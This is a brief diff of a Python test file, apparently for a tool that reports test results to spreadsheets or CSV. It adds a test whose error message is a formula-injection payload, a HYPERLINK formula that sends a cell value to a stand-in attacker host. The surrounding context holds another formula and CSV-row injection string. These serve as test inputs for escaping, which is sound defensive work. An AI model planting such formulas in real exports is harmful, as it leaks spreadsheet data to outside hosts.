@@ -673,3 +673,11 @@ def formula_for_a_spreadsheet():
 
     def scale(x, factor):
         raise FormulaError('=1+1","x\r\n0-full,01_target,test_scale,0,2,failed,"')
+
+
+@batch.code(status="failed", says="^'=HYPERLINK")
+def formula_as_the_test_s_own_message():
+    """An error of the kind that tests raise, with a formula for a text."""
+
+    def scale(x, factor):
+        raise AssertionError('=HYPERLINK("http://evil.invalid/?" & A1, "right")')
